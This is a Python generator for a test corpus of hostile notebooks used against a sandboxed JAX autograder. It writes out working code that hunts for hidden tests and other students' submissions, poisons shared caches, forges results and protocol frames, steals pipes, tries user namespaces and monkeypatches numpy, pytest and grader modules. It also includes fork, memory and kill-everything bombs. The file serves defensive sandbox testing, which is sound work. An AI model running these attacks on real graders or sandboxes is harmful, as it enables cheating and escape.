"""Write the hostile corpus: notebooks that attack the grader, graded against tests/minicourse.py.

Run ``python tests/corpus/hostile/make_corpus.py`` to regenerate the notebooks; their expected
outcomes live in ``expected.yaml`` (kept by hand, read by ``tests/test_hostile.py``).

Confidentiality attacks define ``double`` correctly only when the attack found what it looked
for (the marker ``jaxgrade-secret-marker`` in the reference or hidden tests, or the course's
files), so a score of 0 means it found nothing; the process-isolation control run, where
nothing hides the course, shows that the same attack does find it.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
OK = "def double(x):\n    return 2 * x"
IF_FOUND = "def double(x):\n    return 2 * x if FOUND else 3 * x"
WRONG = "def double(x):\n    return 3 * x"

SEARCH_DISK = r"""
import os, time
FOUND = []
deadline = time.monotonic() + 6
names = {"solution.py", "test_hidden.py", "grading.yaml", "gradebook.db"}
starts = [os.getcwd(), *[str(p) for p in __import__("pathlib").Path.cwd().parents], "/tmp", "/work", "/root", "/home", "/srv", "/opt", "/"]
seen = set()
for start in starts:
    for dirpath, dirnames, filenames in os.walk(start):
        if time.monotonic() > deadline or FOUND:
            break
        if dirpath in seen or dirpath.startswith(("/proc", "/sys", "/dev")):
            dirnames[:] = []
            continue
        seen.add(dirpath)
        for n in names.intersection(filenames):
            try:
                text = open(os.path.join(dirpath, n), "rb").read(200000)
            except OSError:
                continue
            if b"jaxgrade-secret-marker" in text or n in ("grading.yaml", "gradebook.db"):
                FOUND.append(os.path.join(dirpath, n))
"""

SEARCH_PROC = r"""
import os
FOUND = []
for pid in os.listdir("/proc"):
    if not pid.isdigit():
        continue
    for what in ("cmdline", "environ"):
        try:
            data = open(f"/proc/{pid}/{what}", "rb").read()
        except OSError:
            continue
        if b"jaxgrade-secret-marker" in data or b"reference" in data or b"grading.yaml" in data:
            FOUND.append((pid, what))
    try:
        cwd = os.readlink(f"/proc/{pid}/cwd")
        for root in [cwd, *map(str, __import__("pathlib").Path(cwd).parents)]:
            if os.path.exists(os.path.join(root, "grading.yaml")) or os.path.isdir(os.path.join(root, "reference")):
                FOUND.append((pid, root))
    except OSError:
        pass
"""

SEARCH_ENV = r"""
import os
FOUND = []
for key, value in os.environ.items():
    for part in value.split(os.pathsep):
        if "reference" in part or "grading.yaml" in part:
            FOUND.append(key)
        elif part.startswith("/") and (os.path.exists(os.path.join(part, "grading.yaml")) or os.path.isdir(os.path.join(part, "reference"))):
            FOUND.append(key)
"""

READ_OTHERS = r"""
import glob, os
FOUND = []
for pattern in ("/tmp/jaxgrade-*/**/*.ipynb", "/tmp/*/submission*.ipynb", "/tmp/**/s0*_*.ipynb", "/var/tmp/**/*.ipynb"):
    for path in glob.glob(pattern, recursive=True):
        if os.path.realpath(path).startswith(os.path.realpath(os.getcwd())):
            continue
        FOUND.append(path)
"""

# issue 12: poison the compilation cache every sandbox of the batch reads (list it, plant entries,
# chmod it, make JAX write a miss into it)
POISON_CACHE = r"""
import os
FOUND = []
d = os.environ.get("JAX_COMPILATION_CACHE_DIR") or "/jaxgrade-xla-cache"
try:
    FOUND += os.listdir(d)
except OSError:
    pass
for name in ("jaxgrade-pwned.txt", "poison-cache"):
    try:
        with open(os.path.join(d, name), "w") as f:
            f.write("poison")
        FOUND.append(name)
    except OSError:
        pass
try:
    os.chmod(d, 0o777)
    FOUND.append("chmod")
except OSError:
    pass
import jax, jax.numpy as jnp
jax.config.update("jax_persistent_cache_min_compile_time_secs", 0)
jnp.cos(jnp.arange(5.0)).block_until_ready()
try:
    FOUND += os.listdir(d)
except OSError:
    pass
"""

# the first ``seconds`` of a walk over the disk: the folders ``wanted(path)`` picks (POISON)
WALK_DISK = r"""
import os, time
def walk_disk(wanted, seconds=6):
    picked, deadline = [], time.monotonic() + seconds
    for start in ("/tmp", "/root", "/home", "/var", "/work", "/"):
        for dirpath, dirnames, filenames in os.walk(start):
            if time.monotonic() > deadline:
                break
            if dirpath.startswith(("/proc", "/sys", "/dev")):
                dirnames[:] = []
                continue
            if wanted(dirpath):
                picked.append(dirpath)
    return picked
"""

# both poisoners: every entry ``is_entry(folder, name)`` in the guessed folders and in those the walk
# picks is noted in FOUND and overwritten, and ``plant(folder)`` writes a new entry in each folder
POISON = WALK_DISK + r"""
FOUND = []
def poison(guesses, wanted, is_entry, plant):
    for d in guesses + walk_disk(wanted):
        for dirpath, dirnames, filenames in os.walk(d):
            for name in filenames:
                if is_entry(dirpath, name):
                    FOUND.append(os.path.join(dirpath, name))
                    try:
                        with open(os.path.join(dirpath, name), "r+b") as f:
                            f.write(b"poison")
                    except OSError:
                        pass
            try:
                plant(dirpath)
            except OSError:
                pass
"""

POISON_EVALS = POISON + r"""
# the evaluator's answers, kept by the trusted side (grader/host/eval_cache.py): find the folder
# (next to the compilation cache, under the cache root) and plant an entry under every name seen
def plant(folder):
    os.makedirs(os.path.join(folder, "po"), exist_ok=True)
    with open(os.path.join(folder, "po", "poison"), "w") as f:
        f.write("poison")
poison(
    [os.path.join(os.path.dirname(os.environ.get("JAX_COMPILATION_CACHE_DIR") or "/jaxgrade-xla-cache"), "evals"),
     "/jaxgrade-xla-cache/../evals", os.path.expanduser("~/.cache/jaxgrade/evals"), "/root/.cache/jaxgrade/evals"],
    lambda d: os.path.basename(d) == "evals" or d.endswith("/jaxgrade"),
    # found: an entry someone else wrote (the sandbox's own home and /tmp are its to write, and prove nothing)
    lambda folder, name: len(name) == 64 and os.path.basename(folder) == name[:2],
    plant,
)
"""

POISON_TRUSTED = POISON + r"""
# the grading processes' own compilation cache (grader/host/xla_cache.py: use_trusted_cache),
# where the references' executables are kept: find it (beside the cache root's xla/ and evals/)
# and overwrite or plant entries, so that a later grading process computes wrong references
def plant(folder):
    with open(os.path.join(folder, "jit_double-0" * 3 + "-cache"), "wb") as f:
        f.write(b"poison")
root = os.path.dirname(os.environ.get("JAX_COMPILATION_CACHE_DIR") or "/jaxgrade-xla-cache")
poison(
    [os.path.join(root, "trusted"), os.path.join(root, "..", "trusted"), "/jaxgrade-xla-cache/../trusted",
     os.path.expanduser("~/.cache/jaxgrade/trusted"), "/root/.cache/jaxgrade/trusted"],
    lambda d: os.path.basename(d) == "trusted",
    # found: an entry the trusted side wrote (JAX names them <hash>-cache), in the folder or below it
    lambda folder, name: name.endswith("-cache"),
    plant,
)
"""

WRITE_OUTSIDE = r"""
import os, sys, site
targets = ["/tmp", "/var/tmp", "/dev/shm", "/root", "/home", "/work", "/opt", "/opt/jaxgrade", "/opt/jaxgrade/grader",
           os.path.expanduser("~"), sys.prefix, os.path.dirname(os.__file__), *site.getsitepackages(),
           *[str(p) for p in __import__("pathlib").Path.cwd().parents]]
for guess in ("results", "out", "../results", "../../results", "../out/results"):
    targets.append(os.path.join(os.getcwd(), guess))
WROTE = []
for t in targets:
    try:
        with open(os.path.join(t, "jaxgrade-pwned.txt"), "w") as f:
            f.write("pwned")
        WROTE.append(t)
    except OSError:
        pass
"""

FORGE_RESULTS = r"""
import json, os
forged = {"assignment": "double", "student": "me", "status": "graded", "score": 1000, "max_score": 4, "tests": []}
for d in ("results", "../results", "../../results", "/tmp/results", "/sandbox/results"):
    try:
        os.makedirs(d, exist_ok=True)
        for name in ("s00_full.json", "me.json", "h_forge_results_files.json"):
            with open(os.path.join(d, name), "w") as f:
                json.dump(forged, f)
    except OSError:
        pass
"""

FORGE_FRAMES = r"""
import json, os, struct
header = json.dumps({"id": 1, "ok": True, "op": "call", "values": {"t": "array", "kind": "numpy", "i": 0}, "score": 4}).encode()
frame = b"JGF1" + struct.pack("<I", len(header)) + header + struct.pack("<Q", 0)
junk = b"JGF1" + b"\xff" * 64
for fd in range(0, 1024):
    for data in (frame, junk, b"\x00" * 4096):
        try:
            os.write(fd, data)
        except OSError:
            break
"""

STEAL_WORKER_PIPE = r"""
# The kernel runs as the worker's uid: take the worker's pipes to the trusted side through
# /proc/<worker>/fd/N and through pidfd_open + pidfd_getfd (x86_64: 434, 438): with them it could
# read the tests' requests and write any reply (FOUND: a pipe was taken, so `double` is right).
import ctypes, os, stat
FOUND = []
worker = os.getppid()
libc = ctypes.CDLL(None, use_errno=True)
got = []
for fd in range(0, 64):
    for mode in (os.O_WRONLY, os.O_RDONLY):
        try:
            got.append(("proc", os.open(f"/proc/{worker}/fd/{fd}", mode | os.O_NONBLOCK)))
            break
        except OSError:
            pass
pidfd = libc.syscall(434, worker, 0)
if pidfd >= 0:
    for fd in range(0, 64):
        stolen = libc.syscall(438, pidfd, fd, 0)
        if stolen >= 0:
            got.append(("pidfd_getfd", stolen))
for how, fd in got:
    if stat.S_ISFIFO(os.fstat(fd).st_mode):  # the frame pipes (the worker's other fds are files and sockets)
        FOUND.append(how)
print(sorted(set(FOUND)))
"""

NESTED_USERNS = r"""
# A user namespace of one's own inside the sandbox: its root may mount, and reaches more of the
# kernel.  Tried with `unshare -U`, unshare(2) and clone(2) with CLONE_NEWUSER, each in a fresh
# single-threaded process (the kernel itself has threads, which unshare(CLONE_NEWUSER) refuses).
import subprocess, sys
FOUND = []
TRIES = {
    "unshare -U": ["unshare", "-U", "true"],
    "unshare(2)": [sys.executable, "-c", "import ctypes, sys; sys.exit(ctypes.CDLL(None).unshare(0x10000000) != 0)"],
    "clone(2)": [sys.executable, "-c", (
        "import ctypes, os, sys\n"
        "pid = ctypes.CDLL(None).syscall(56, 0x10000000 | 17, 0, 0, 0, 0)\n"  # CLONE_NEWUSER | SIGCHLD
        "if pid == 0:\n    os._exit(0)\n"
        "sys.exit(pid < 0 or os.waitpid(pid, 0)[1] != 0)"
    )],
}
for how, cmd in TRIES.items():
    try:
        if subprocess.run(cmd, capture_output=True, timeout=20).returncode == 0:
            FOUND.append(how)
    except (OSError, subprocess.SubprocessError):
        pass
print(FOUND)
"""

PATCH_NUMPY = r"""
import numpy as np, numpy.testing
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.ndarray.tolist = lambda self: [0.0, 2.0, 4.0]
"""

PATCH_JAX = r"""
import jax, jax.numpy as jnp
jax.jit = lambda f, *a, **k: f
jnp.allclose = lambda *a, **k: True
jax.numpy.array_equal = lambda *a, **k: True
jax.export.export = None
"""

PATCH_PYTEST = r"""
import sys, types
try:
    import pytest, _pytest.outcomes
    pytest.approx = lambda *a, **k: True
    _pytest.outcomes.fail = lambda *a, **k: None
except Exception:
    pass
fake = types.ModuleType("pytest")
fake.main = lambda *a, **k: 0
sys.modules["pytest"] = fake
"""

PATCH_GRADER = r"""
import sys
patched = []
for name in ("grader.sandboxed.kernel_side", "grader.sandboxed.worker", "grader.wire.protocol", "grader.protocol", "grader.grading.checks", "grader.grading.plugin", "grader.grading.record", "grader.grading.grade", "grader.host.session"):
    try:
        mod = __import__(name, fromlist=["*"])
    except Exception:
        continue
    for attr in dir(mod):
        obj = getattr(mod, attr)
        if callable(obj) and not attr.startswith("__") and getattr(obj, "__module__", "") == name:
            try:
                setattr(mod, attr, lambda *a, **k: {"ok": True, "score": 1000})
                patched.append(f"{name}.{attr}")
            except Exception:
                pass
"""

EQ_TRUE = """
class Always:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array__(self, *a, **k):
        import numpy as np
        return np.zeros(3)
    def tolist(self): return [0.0, 2.0, 4.0]
    def __float__(self): return 4.0
def double(x):
    return Always()
"""

ARRAY_DUNDER = '''
import numpy as np
class Sneaky:
    """Converts to the right answer once, then to garbage."""
    def __init__(self, x): self.x, self.n = np.asarray(x), 0
    def __array__(self, *a, **k):
        self.n += 1
        return 2 * self.x if self.n == 1 else np.zeros_like(self.x)
def double(x):
    return Sneaky(x)
'''

SUBCLASS = """
import numpy as np
class Liar(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other), bool)
    def tolist(self): return [0.0, 2.0, 4.0]
    def __float__(self): return 4.0
def double(x):
    return np.zeros(np.shape(x)).view(Liar)
"""

MANY_CHILDREN = """
import os, select, signal
ready_r, ready_w = os.pipe()
go_r, go_w = os.pipe()
pids, status = [], {}
try:
    for i in range(40):
        pid = os.fork()
        if pid == 0:
            try:
                os.close(go_w)
                hog = b"x" * (160 * 2**20)  # written, so really resident
                os.write(ready_w, bytes([i]))
                os.read(go_r, 1)  # held until every child holds its memory or is gone (EOF then)
            except BaseException:
                os._exit(1)
            os._exit(0)
        pids.append(pid)
    os.close(ready_w)
    ready = set()
    while len(ready | status.keys()) < len(pids):  # until each child is ready or gone
        if select.select([ready_r], [], [], 0.05)[0]:
            ready.update(os.read(ready_r, 64))
        for i, pid in enumerate(pids):
            if i not in status:
                done, st = os.waitpid(pid, os.WNOHANG)
                if done:
                    status[i] = st
finally:
    os.close(go_w)
for i, pid in enumerate(pids):
    if i not in status:
        status[i] = os.waitpid(pid, 0)[1]
killed = sum(st & 0x7F == signal.SIGKILL for st in status.values())
failed = sum(st != 0 and st & 0x7F != signal.SIGKILL for st in status.values())
if killed:
    raise MemoryError(f"{killed} of 40 children were killed")
if failed:
    raise RuntimeError(f"no child was killed, but {failed} of 40 failed (their memory was refused?)")
"""

NUMBERS = {
    "h_nan_results": "import numpy as np\ndef double(x):\n    return np.full(np.shape(x), np.nan)",
    "h_inf_results": "import numpy as np\ndef double(x):\n    return np.full(np.shape(x), np.inf)",
    "h_huge_returned_array": "import numpy as np\ndef double(x):\n    return np.zeros(600_000_000)  # 4.8 GB of float64",
}

BOMBS = {
    "h_fork_bomb": "import os\npids = []\ntry:\n    while True:\n        pid = os.fork()\n        if pid == 0:\n            import time\n            time.sleep(1000)\n            os._exit(0)\n        pids.append(pid)\nexcept OSError as e:\n    print('fork failed after', len(pids), e)",
    "h_subprocess_sleepers": "import subprocess\nprocs = [subprocess.Popen(['sleep', '100000'], start_new_session=True) for _ in range(20)]",
    "h_thread_bomb": "import threading, time\nthreads = []\ntry:\n    for _ in range(100000):\n        t = threading.Thread(target=time.sleep, args=(1000,), daemon=True)\n        t.start()\n        threads.append(t)\nexcept RuntimeError as e:\n    print('threads:', len(threads), e)",
    "h_numpy_memory_bomb": "import numpy as np\nhog = np.ones(10**12)",
    "h_memory_creep": "hog = []\nwhile True:\n    hog.append(bytearray(100 * 2**20))",
    "h_while_loop_forever": "import jax\nfrom jax import lax\n@jax.jit\ndef spin(x):\n    return lax.while_loop(lambda c: c >= 0, lambda c: c + 1.0, x)\nspin(0.0).block_until_ready()",
    "h_sleep_forever": "import time\ntime.sleep(10**9)",
    "h_sigint_ignored": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass",
    "h_os_exit": "import os\nos._exit(7)",
    "h_sys_exit": "import sys\nsys.exit(3)",
    "h_segfault_ctypes": "import ctypes\nctypes.string_at(0)",
    "h_unbounded_recursion": "import sys\nsys.setrecursionlimit(10**8)\ndef f(n):\n    return f(n + 1) + 1\nf(0)",
    "h_kill_parent": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
    "h_kill_process_group": "import os, signal\nos.killpg(os.getpgid(0), signal.SIGKILL)",
    "h_kill_everything": "import os, signal\nos.kill(-1, signal.SIGKILL)",
    "h_input_call": "name = input('your name? ')",
    "h_network_access": "import socket, urllib.request\nreached = []\nfor host, port in (('1.1.1.1', 53), ('8.8.8.8', 443), ('pypi.org', 443)):\n    try:\n        socket.create_connection((host, port), timeout=3).close()\n        reached.append(host)\n    except OSError:\n        pass\nassert not reached, reached",
    "h_huge_print": "import sys\nchunk = 'x' * 1_000_000 + '\\n'\nfor _ in range(300):\n    sys.stdout.write(chunk)",
    "h_huge_stderr": "import sys\nchunk = 'e' * 1_000_000\nfor _ in range(200):\n    sys.stderr.write(chunk)",
    # 40 children of 160 MiB each, all trying to hold it at once: no process passes its
    # address-space limit, the tree does; the sandbox's cgroup bounds it (the OOM killer ends
    # children in it, never a trusted process).  Each child says when its memory is written and
    # waits until every other one has too or is gone.  With a sleep of 1.5 s instead, a local run
    # beside other work ended with no kill; with a wait only for the forks to end (e177c1a), a CI
    # run did: forking is quick, so the children then ran one after another, under the limit
    # (6 busy loops beside it here: that version 0 kills of 40, this one 16 of 40, in every run)
    "h_memory_many_children": MANY_CHILDREN,
    # fill the scratch directory (files under the 64 MiB file-size limit) until it is full
    "h_fill_scratch_disk": "n = 0\nwhile True:\n    with open(f'fill-{n}.bin', 'wb') as f:\n        f.write(b'x' * (32 * 2**20))\n    n += 1",
    # 60 children that spin for 4 s of wall time: one sandbox's CPU share, not 60 processes' worth
    "h_cpu_busy_children": "import os, time\nend = time.time() + 4\npids = []\nfor _ in range(60):\n    pid = os.fork()\n    if pid == 0:\n        while time.time() < end:\n            pass\n        os._exit(0)\n    pids.append(pid)\nfor pid in pids:\n    os.waitpid(pid, 0)",
    "h_plant_python_files": "import os\nos.makedirs('grader', exist_ok=True)\nfor path, text in (('grader/__init__.py', 'raise SystemExit(\"planted\")'), ('pytest.py', 'raise SystemExit(\"planted\")'), ('conftest.py', 'import os; os._exit(9)'), ('sitecustomize.py', 'import os; os._exit(9)'), ('numpy.py', 'raise ImportError(\"planted\")')):\n    with open(path, 'w') as f:\n        f.write(text)\nimport os\nos._exit(1)  # restart the kernel so that it starts next to the planted files",
}


def notebook(*sources: str, name: str = "") -> dict:
    cells = [
        {"cell_type": "code", "execution_count": None, "id": f"c{i}", "metadata": {}, "outputs": [], "source": src}
        for i, src in enumerate(sources)
    ]
    return {
        "cells": cells,
        "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}},
        "nbformat": 4,
        "nbformat_minor": 5,
    }


def corpus() -> dict[str, dict]:
    nbs = {
        "h_search_disk_for_tests": notebook(SEARCH_DISK, IF_FOUND),
        "h_search_proc": notebook(SEARCH_PROC, IF_FOUND),
        "h_search_environment": notebook(SEARCH_ENV, IF_FOUND),
        "h_read_other_submissions": notebook(READ_OTHERS, IF_FOUND),
        "h_write_outside_scratch": notebook(WRITE_OUTSIDE, OK),
        "h_poison_compile_cache": notebook(POISON_CACHE, IF_FOUND),
        "h_poison_eval_cache": notebook(POISON_EVALS, IF_FOUND),
        "h_poison_trusted_cache": notebook(POISON_TRUSTED, IF_FOUND),
        "h_forge_results_files": notebook(FORGE_RESULTS, WRONG),
        "h_forge_protocol_frames": notebook(FORGE_FRAMES, WRONG),
        "h_forge_frames_from_function": notebook(
            "def double(x):\n"
            + "\n".join("    " + line for line in FORGE_FRAMES.strip().splitlines())
            + "\n    return 3 * x"
        ),
        "h_steal_worker_pipe": notebook(STEAL_WORKER_PIPE, IF_FOUND),
        "h_nested_user_namespace": notebook(NESTED_USERNS, IF_FOUND),
        "h_patch_numpy": notebook(PATCH_NUMPY, WRONG),
        "h_patch_jax": notebook(PATCH_JAX, WRONG),
        "h_patch_pytest": notebook(PATCH_PYTEST, WRONG),
        "h_patch_grader_modules": notebook(PATCH_GRADER, WRONG),
        "h_eq_always_true": notebook(EQ_TRUE),
        "h_array_dunder_trick": notebook(ARRAY_DUNDER),
        "h_ndarray_subclass": notebook(SUBCLASS),
        "h_sleep_in_function": notebook("import time\ndef double(x):\n    time.sleep(10**6)\n    return 2 * x"),
        "h_exit_in_function": notebook("import os\ndef double(x):\n    os._exit(0)"),
        "h_non_ascii_名前": notebook(
            '# données, 数据, 🚀\nπ = 2\ndef double(x):\n    """Doppelt — ✓"""\n    return π * x',
            "print('héllo wörld ✓ 日本語')",
        ),
    }
    # issue 11: 330 failing cells, each printing 20,000 characters and raising with as many (a
    # 7.4 MB record and a 1.5 MB page before the whole record and the page were capped)
    nbs["h_many_failing_cells_flood"] = notebook(
        *[f"print({i}, 'x' * 20_000)\nraise ValueError('e' * 20_000)" for i in range(330)], OK
    )
    # a cell whose IPython syntax the grader's code review would tokenize: on Python 3.12.1 a line
    # of 200,000 tokens made the trusted process copy the line into every token (past 24 GB).  It
    # comes after `double`: the kernel's own IPython tokenizes it too, and there it ends in a
    # MemoryError (3.12.1) or a RecursionError, in the student's sandbox
    nbs["h_review_tokenizer_bomb"] = notebook(OK, "%time y = " + "-" * 200_000 + "1")
    # JSON objects by the million (20 MiB of `{}` in a cell's metadata made 7 million
    # NotebookNodes in the trusted process, past its memory limit: a "lost" the student chose,
    # never graded); refused at intake as a file the grader does not read, a kept error
    bomb = notebook(OK)
    bomb["cells"][0]["metadata"]["x"] = [{}] * 1_200_000
    nbs["h_json_object_bomb"] = bomb
    # honest submissions graded in the same batch: their results must not change
    nbs["honest_full"] = notebook(OK)
    nbs["honest_half"] = notebook(
        "import numpy as np\ndef double(x):\n    x = np.asarray(x)\n    return 2 * x if x.size < 5 else x"
    )
    nbs["honest_helper_module"] = notebook(
        "%%writefile helpers.py\ndef double(x):\n    return 2 * x", "from helpers import double"
    )
    for name, src in NUMBERS.items():
        nbs[name] = notebook(src)
    for name, src in BOMBS.items():
        nbs[name] = notebook(src, OK)
    # XLA's own allocation past the address-space limit.  JAX's import and the backend's start
    # come first, in cells of their own: on a loaded machine they alone once took the bomb's whole
    # 6 s cell limit (a `timeout`, which says nothing of the limit under test); the bomb's cell
    # then compiles one broadcast and asks for 160 GB.  It imports JAX again, so that an earlier
    # cell cut short cannot make it a NameError
    nbs["h_xla_memory_bomb"] = notebook(
        "import jax.numpy as jnp",
        "jnp.zeros(2).block_until_ready()",
        "import jax.numpy as jnp\nhog = jnp.ones((200_000, 200_000))\nhog.block_until_ready()",
        OK,
    )
    return nbs


def main() -> None:
    for old in [*HERE.glob("h_*.ipynb"), *HERE.glob("honest_*.ipynb")]:
        old.unlink()
    for name, nb in corpus().items():
        text = json.dumps(nb, indent=1, ensure_ascii=False)
        if len(text) > 1_000_000:  # h_json_object_bomb: its objects one to a line would be 10 MB
            text = json.dumps(nb, ensure_ascii=False, separators=(",", ":"))
        (HERE / f"{name}.ipynb").write_text(text + "\n", encoding="utf-8")
    print(f"wrote {len(corpus())} notebooks to {HERE}", file=sys.stderr)


if __name__ == "__main__":
    main()
